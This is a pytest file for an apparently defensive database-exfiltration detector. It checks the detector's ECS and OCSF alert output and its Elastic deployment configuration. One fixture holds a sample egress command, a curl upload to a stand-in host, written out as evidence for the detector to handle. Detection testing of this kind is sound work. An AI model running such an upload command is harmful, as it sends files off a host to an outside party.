"""ECS output for Elastic: categorisation ECS allows, one rule id per analytic,
one document id per chain across escalations, the primary evidence in
top-level ECS fields, and the shipped index template and Filebeat config
(deploy/elastic/) covering what the correlator writes."""

from __future__ import annotations

import glob
import json
import os
from typing import Any

import pytest
import yaml
from conftest import SHARED
from correlate_scenarios.helpers import HERE as OWN, correlate

from osq_dbwatch.correlate import findings as F

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
ELASTIC = os.path.join(REPO, "deploy", "elastic")
SCEN = os.path.join(SHARED, "scenarios")
CONFIG = os.path.join(SCEN, "config.yml")

# ECS 8.x categorisation (ecs-allowed-values-event-category): the event types
# each category we use expects.
ECS_EXPECTED_TYPES = {"intrusion_detection": {"allowed", "denied", "info"}}


def _scenarios(tmp_path, fmt: str) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for directory in (SCEN, OWN):
        for spec_path in sorted(glob.glob(os.path.join(directory, "*.json"))):
            with open(spec_path) as handle:
                spec = json.load(handle)
            name = spec["name"]
            out.extend(correlate(["--format", fmt, "--config", os.path.join(directory, spec["config"]),
                                  os.path.join(directory, spec["log"])],
                                 str(tmp_path / f"{fmt}-{name}.sqlite"), str(tmp_path / f"{fmt}-{name}.jsonl")))
    return out


@pytest.fixture(scope="module")
def alerts(tmp_path_factory) -> list[dict[str, Any]]:
    found = _scenarios(tmp_path_factory.mktemp("ecs"), "ecs")
    assert len(found) > 15
    return found


@pytest.fixture(scope="module")
def ocsf(tmp_path_factory) -> list[dict[str, Any]]:
    return _scenarios(tmp_path_factory.mktemp("ocsf"), "ocsf")


def test_categorisation_uses_values_ecs_allows(alerts) -> None:
    for a in alerts:
        assert a["event"]["kind"] == "alert"
        for category in a["event"]["category"]:
            assert set(a["event"]["type"]) <= ECS_EXPECTED_TYPES[category], a["event"]


def test_rule_uuid_names_the_rule_not_the_chain(alerts) -> None:
    rules = {json.dumps(a["rule"], sort_keys=True) for a in alerts}
    assert len(rules) == 1  # one analytic, one rule: nothing chain-specific in rule.*
    chains = {a["osq_dbwatch"]["chain_id"] for a in alerts}
    assert len(chains) > 5
    rule = alerts[0]["rule"]
    assert rule["uuid"] == F.RULE_UUID and rule["uuid"] not in chains and rule["id"] == F.ANALYTIC_UID


def test_document_id_is_the_chain_id_in_both_formats(alerts, ocsf) -> None:
    assert len(alerts) == len(ocsf)
    for a, o in zip(alerts, ocsf):
        chain = o["finding_info"]["uid"]
        assert a["event"]["id"] == a["osq_dbwatch"]["chain_id"] == o["metadata"]["correlation_uid"] == chain
        assert a["osq_dbwatch"]["revision"] == o["metadata"]["sequence"]
        assert a["osq_dbwatch"]["record_id"] == o["metadata"]["uid"] == f"{chain}:{o['metadata']['sequence']}"


def _escalating_run(tmp_path, fmt: str) -> list[dict[str, Any]]:
    """The insider scenario fed one line at a time to the same state: the chain
    is reported low, then medium, then high, as a live host would see it."""
    with open(os.path.join(SCEN, "insider-csv-curl.log"), "rb") as handle:
        lines = handle.readlines()
    live = tmp_path / f"live-{fmt}.log"
    live.write_bytes(b"")
    state, output = str(tmp_path / f"{fmt}.sqlite"), str(tmp_path / f"{fmt}.jsonl")
    out: list[dict[str, Any]] = []
    for line in lines:
        with open(live, "ab") as handle:
            handle.write(line)
        out.extend(correlate(["--format", fmt, "--config", CONFIG, str(live)], state, output))
    return out


def test_one_document_per_chain_across_escalations(tmp_path) -> None:
    records = _escalating_run(tmp_path, "ecs")
    assert [r["event"]["severity"] for r in records] == [21, 47, 73]  # three records, one chain
    assert [r["event"]["action"] for r in records] == ["new", "update", "update"]
    assert len({r["event"]["id"] for r in records}) == 1
    revisions = [r["osq_dbwatch"]["revision"] for r in records]
    assert revisions == sorted(set(revisions))
    # What Elasticsearch does with _id = event.id and op_type index (deploy/elastic/filebeat.yml).
    index: dict[str, dict[str, Any]] = {}
    for r in records:
        index[r["osq_dbwatch"]["chain_id"]] = r
    (doc,) = index.values()
    assert doc["event"]["severity"] == 73 and doc["osq_dbwatch"]["stages"] == ["access", "dump", "egress"]
    assert doc["destination"]["address"] and doc["file"]["path"] and doc["process"]["pid"]

    ocsf = _escalating_run(tmp_path, "ocsf")
    assert len({o["finding_info"]["uid"] for o in ocsf}) == 1
    assert [o["metadata"]["sequence"] for o in ocsf] == revisions
    assert len({o["metadata"]["uid"] for o in ocsf}) == 3
    assert [o["type_uid"] for o in ocsf] == [200401, 200402, 200402]


def test_primary_evidence_is_in_top_level_ecs_fields(alerts) -> None:
    seen = set()
    for a in alerts:
        evidences = a["osq_dbwatch"]["evidences"]
        assert a["user"]["name"] == a["related"]["user"][0]
        access = [e["process"] for e in evidences if "process" in e and e["data"]["stage"] == "access"]
        if access:
            seen.add("process")
            p = access[0]
            # An access seen as a database connect (db_connect) has no command line.
            assert a["process"]["pid"] == p["pid"] and a["process"].get("command_line") == p.get("cmd_line")
            assert a["process"]["executable"] == p["file"]["path"] and a["process"]["name"] == p["file"]["name"]
            if "parent_process" in p and "file" in p["parent_process"]:
                assert a["process"]["parent"]["executable"] == p["parent_process"]["file"]["path"]
        files = [e["file"] for e in evidences if "file" in e]
        if files:
            seen.add("file")
            assert a["file"]["path"] == files[0]["path"]
        else:
            assert "file" not in a
        ips = [e["dst_endpoint"]["ip"] for e in evidences if e.get("dst_endpoint", {}).get("ip")]
        if ips:
            seen.add("destination")
            assert a["destination"]["ip"] == ips[0] and a["destination"]["ip"] in a["related"]["ip"]
    assert seen == {"process", "file", "destination"}


def _finding(**kw: Any) -> F.Finding:
    base: dict[str, Any] = dict(uid="c-1", host="db-1", user="mallory", severity_id=3, score=55, update=False,
                                time_ms=1_793_671_990_000, first_seen_ms=1_793_671_835_000,
                                last_seen_ms=1_793_671_990_000, title="t", message="m.", stages=["access", "dump"],
                                reasons=["unusual-access:+30"], techniques=["T1213"], evidences=[])
    base.update(kw)
    return F.Finding(**base)


def test_host_id_comes_from_host_uuid_when_known() -> None:
    with_uuid = _finding(host_uuid="BD81FF9C-AE51-41A8-8B2A-520B6D853687")
    assert F.to_ecs(with_uuid)["host"]["id"] == "BD81FF9C-AE51-41A8-8B2A-520B6D853687"
    assert F.to_ocsf(with_uuid)["device"]["uid"] == "BD81FF9C-AE51-41A8-8B2A-520B6D853687"
    assert "id" not in F.to_ecs(_finding())["host"] and "uid" not in F.to_ocsf(_finding())["device"]


def test_a_history_only_chain_has_no_made_up_process() -> None:
    history = {"data": {"stage": "access", "query": "db_client_history"}, "actor": {"user": {"name": "mallory"}}}
    egress = {"process": {"pid": 7, "cmd_line": "curl -T x https://e.example", "file": {"path": "/usr/bin/curl",
                                                                                       "name": "curl"}},
              "dst_endpoint": {"hostname": "e.example"}, "data": {"stage": "egress"}}
    alert = F.to_ecs(_finding(evidences=[history]))
    assert "process" not in alert and "destination" not in alert
    alert = F.to_ecs(_finding(evidences=[history, egress]))
    assert alert["process"]["name"] == "curl" and alert["destination"] == {"domain": "e.example",
                                                                          "address": "e.example"}


# -- deploy/elastic: what Elasticsearch and Filebeat are given ------------------

COMPATIBLE = {str: {"keyword", "wildcard", "match_only_text", "date", "ip"}, int: {"long"},
              float: {"float"}, bool: {"boolean"}}


def _leaves(obj: Any, prefix: str = "") -> list[tuple[str, Any]]:
    if isinstance(obj, dict):
        return [leaf for k, v in obj.items() for leaf in _leaves(v, f"{prefix}{k}.")]
    if isinstance(obj, list):
        return [leaf for v in obj for leaf in _leaves(v, prefix)]
    return [(prefix[:-1], obj)]


def _mapping(properties: dict[str, Any], path: str) -> dict[str, Any] | None:
    node: dict[str, Any] = {"properties": properties}
    for part in path.split("."):
        if node.get("type") == "flattened":
            return node
        node = node.get("properties", {}).get(part)
        if node is None:
            return None
    return node


def test_index_template_maps_every_field_we_write(alerts) -> None:
    with open(os.path.join(ELASTIC, "index-template.json"), encoding="utf-8") as handle:
        template = json.load(handle)
    assert "data_stream" not in template  # data streams only create: an escalation could not replace its chain
    mappings = template["template"]["mappings"]
    assert mappings["dynamic"] is False
    unmapped, wrong = set(), set()
    for a in alerts:
        for path, value in _leaves(a):
            m = _mapping(mappings["properties"], path)
            if m is None:
                unmapped.add(path)
            elif m["type"] != "flattened" and m["type"] not in COMPATIBLE[type(value)]:
                wrong.add((path, m["type"], type(value).__name__))
    assert not unmapped and not wrong, (sorted(unmapped), sorted(wrong))
    assert _mapping(mappings["properties"], "event.id")["type"] == "keyword"
    assert _mapping(mappings["properties"], "@timestamp")["type"] == "date"
    assert template["template"]["settings"]["index"]["default_pipeline"] == "osq-dbwatch-alerts"


def test_filebeat_sets_the_chain_id_as_document_id_and_replaces() -> None:
    with open(os.path.join(ELASTIC, "filebeat.yml"), encoding="utf-8") as handle:
        config = yaml.safe_load(handle)
    (inp,) = config["filebeat.inputs"]
    assert inp["type"] == "filestream" and inp["id"]
    processors = inp["processors"]
    copies = [c for p in processors for c in p.get("copy_fields", {}).get("fields", [])]
    assert {"from": "osq_dbwatch.chain_id", "to": "@metadata._id"} in copies
    assert any(p.get("add_fields", {}).get("target") == "@metadata"
               and p["add_fields"]["fields"].get("op_type") == "index" for p in processors)
    out = config["output.elasticsearch"]
    with open(os.path.join(ELASTIC, "index-template.json"), encoding="utf-8") as handle:
        template = json.load(handle)
    assert any(out["index"].startswith(p.rstrip("*")) for p in template["index_patterns"])
    assert out["index"].startswith("filebeat-")  # in the prebuilt External Alerts rule's index patterns
    with open(os.path.join(ELASTIC, "ingest-pipeline.json"), encoding="utf-8") as handle:
        pipeline = json.load(handle)
    assert out["pipeline"] == template["template"]["settings"]["index"]["default_pipeline"]
    assert any(p.get("set", {}).get("field") == "event.ingested" for p in pipeline["processors"])
